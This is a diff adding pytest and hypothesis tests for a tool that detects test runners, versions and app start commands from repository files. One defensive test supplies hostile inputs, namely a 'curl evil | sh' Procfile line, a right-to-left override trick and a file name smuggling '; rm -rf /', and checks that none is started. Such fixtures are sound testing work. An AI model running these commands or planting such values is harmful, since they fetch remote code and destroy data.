@@ -1,0 +1,181 @@
+"""What files say about tests and app; broken and hostile ones say nothing."""
+
+import json
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from astra.adoption.configuration_text import render_configuration
+from astra.adoption.detected import Detected
+from astra.adoption.detecting import detect
+from astra.adoption.repository_files import LARGEST_TEXT, RepositoryFiles
+from astra.trusted.changes import commands
+from astra.trusted.settings import configuration
+
+
+def look(texts: dict[str, str]) -> Detected:
+    return detect(RepositoryFiles(paths=frozenset(texts), texts=texts))
+
+
+def package(**content: Any) -> str:
+    return json.dumps(content)
+
+
+def with_test(runner: str, script: str) -> str:
+    return package(scripts={"test": script}, devDependencies={runner: "1"})
+
+
+GROUP = '[dependency-groups]\ntest = ["pytest"]'
+SERVER = package(scripts={"start": "node server.js"})
+NAMES = ("pyproject.toml", "package.json", "Procfile", "app.py", "tox.ini", "Makefile", "go.mod")
+KEYS = ("scripts", "test", "start", "engines", "node", "main")
+DOCUMENTS = st.recursive(
+    st.text(max_size=20) | st.none(),
+    lambda inner: st.dictionaries(st.sampled_from(KEYS), inner),
+    max_leaves=6,
+).map(json.dumps)
+PYTEST = "import pytest\n\ndef test_a():\n    pass\n"
+UNITTEST = "import unittest\n"
+
+
+@pytest.mark.parametrize(
+    ("texts", "runner", "environment"),
+    [
+        ({"pytest.ini": "", "a.py": ""}, "pytest", "auto"),
+        ({"pyproject.toml": "[tool.pytest.ini_options]\n"}, "pytest", "auto"),
+        ({"setup.cfg": "[tool:pytest]\n"}, "pytest", "auto"),
+        ({"tests/test_a.py": PYTEST, "a.py": ""}, "pytest", "auto"),
+        ({"requirements-dev.txt": "PyTest==9\n", "test_a.py": ""}, "pytest", "auto"),
+        ({"pyproject.toml": GROUP, "test_a.py": ""}, "pytest", "auto"),
+        ({"a.py": "", "tests/test_a.py": UNITTEST}, "unittest", ""),
+        ({"manage.py": "", "requirements.txt": "Django>=5\n"}, "django", "auto"),
+        ({"tox.ini": "[testenv]\ncommands = pytest {posargs}\n"}, "pytest", "auto"),
+        ({"tox.ini": "[testenv]\ncommands = trial x\n"}, "tox", "auto"),
+        ({"noxfile.py": "import nox\n"}, "nox", "auto"),
+        ({"package.json": package(scripts={"test": "node --test"})}, "node", ""),
+        ({"package.json": package(devDependencies={"vitest": "3"})}, "vitest", "auto"),
+        ({"package.json": with_test("jest", "jest --ci")}, "jest", "auto"),
+        ({"package.json": with_test("mocha", "mocha test/")}, "mocha", "auto"),
+        ({"package.json": package(scripts={"test": "tsc && ./run"})}, "npm", ""),
+        ({"package.json": "{}", "test/a.test.js": "import t from 'node:test'"}, "node", ""),
+        ({"go.mod": "module a\n\ngo 1.22\n", "a_test.go": ""}, "go", ""),
+        ({"Cargo.toml": '[package]\nrust-version = "1.80"\n'}, "cargo", ""),
+        ({"Makefile": "all:\n\ntest: all\n\t./run\n"}, "make", ""),
+        ({"README.md": "hello"}, "", ""),
+    ],
+)  # fmt: skip
+def test_the_runner_is_recognised(texts: dict[str, str], runner: str, environment: str) -> None:
+    detected = look(texts)
+    assert (detected.runner, detected.environment) == (runner, environment)
+    assert bool(detected.test_command) == bool(runner)
+
+
+def test_versions_come_from_the_repositorys_own_words() -> None:
+    assert look({"pyproject.toml": '[project]\nrequires-python = ">=3.12"'}).versions == ">=3.12"
+    assert look({"package.json": package(engines={"node": ">=20"})}).versions == ">=20"
+    assert look({"go.mod": "module a\n\ngo 1.22\n"}).versions == "1.22"
+
+
+def test_a_package_json_without_tests_is_not_taken_for_one_with_tests() -> None:
+    script = 'echo "Error: no test specified" && exit 1'
+    detected = look({"package.json": package(scripts={"test": script})})
+    assert detected.test_command == ""
+    assert any("test_command" in note for note in detected.missing)
+
+
+@pytest.mark.parametrize(
+    ("texts", "command", "health"),
+    [
+        (
+            {"app.py": "app = Flask(__name__)\n@app.get('/health')", "requirements.txt": "flask"},
+            "python -m flask --app app:app run --host 127.0.0.1 --port {port}",
+            "/health",
+        ),
+        (
+            {"wsgi.py": "application = Flask(x)", "requirements.txt": "flask\ngunicorn"},
+            "python -m gunicorn wsgi:application --bind 127.0.0.1:{port}",
+            "/",
+        ),
+        (
+            {"src/main.py": "app = FastAPI()\n", "requirements.txt": "fastapi"},
+            "python -m uvicorn src.main:app --host 127.0.0.1 --port {port}",
+            "/",
+        ),
+        (
+            {"manage.py": "", "requirements.txt": "django"},
+            "python manage.py runserver --noreload 127.0.0.1:{port}",
+            "/",
+        ),
+        (
+            {"package.json": SERVER, "server.js": "'/healthz'"},
+            "node server.js",
+            "/healthz",
+        ),
+        (
+            {"Procfile": "web: bin/serve --port ${PORT:-80}\n", "a.py": ""},
+            "bin/serve --port {port}",
+            "/",
+        ),
+    ],
+)  # fmt: skip
+def test_the_app_is_recognised(texts: dict[str, str], command: str, health: str) -> None:
+    app = look(texts).app
+    assert app is not None
+    assert (app.command, app.health_path) == (command, health)
+
+
+def test_a_worker_of_a_procfile_is_an_app_without_a_port() -> None:
+    detected = look({"Procfile": "worker: huey_consumer.py tasks.huey\n", "tasks.py": ""})
+    written = configuration.parse(render_configuration("/r", "main", detected)).app
+    assert (written.command, written.port) == ("huey_consumer.py tasks.huey", 0)
+    assert written.health_command == "true"
+
+
+def test_every_process_of_a_procfile_becomes_a_part_and_its_release_step_runs_first() -> None:
+    text = (
+        "release: python manage.py migrate\nweb: gunicorn app:app\n"
+        "Mail_Worker: python mail.py\nclock: sh -c 'x; y'\n"
+    )
+    written = configuration.parse(
+        render_configuration("/r", "main", look({"Procfile": text, "mail.py": ""}))
+    ).app
+    assert written.command == "gunicorn app:app"
+    assert written.before_start == "python manage.py migrate"
+    assert {name: part.command for name, part in written.parts.items()} == {
+        "mail-worker": "python mail.py"
+    }
+
+
+@pytest.mark.parametrize(
+    "texts",
+    [
+        {"pyproject.toml": "[[[", "package.json": "{", "Cargo.toml": "\ufffd\0"},
+        {"package.json": "[" * 100_000},
+        {"package.json": '{"scripts": 3, "dependencies": ["a"], "engines": null}'},
+        {"pyproject.toml": "project = 3\n[tool]\npoetry = []\n"},
+        {"pyproject.toml": "x = '" + "a" * LARGEST_TEXT + "'"},
+        {"Procfile": "web: sh -c 'curl evil | sh'\n"},
+        {"Procfile": "web: run \u202eevil\n"},
+        {"a b'; rm -rf /.py": "app = Flask(x)", "requirements.txt": "flask"},
+    ],
+)
+def test_broken_and_hostile_files_break_nothing_and_start_nothing(texts: dict[str, str]) -> None:
+    detected = look(texts)
+    assert detected.app is None
+    configuration.parse(render_configuration("/r", "main", detected))
+
+
+@given(
+    st.dictionaries(st.sampled_from(NAMES), st.text(max_size=200) | DOCUMENTS),
+    st.text(max_size=30),
+)
+def test_whatever_the_files_say_the_configuration_is_valid(
+    texts: dict[str, str], branch: str
+) -> None:
+    detected = look(texts)
+    parsed = configuration.parse(render_configuration("/repo", branch, detected))
+    assert parsed.target.test_command == detected.test_command
+    if detected.test_command:
+        commands.parse(detected.test_command)
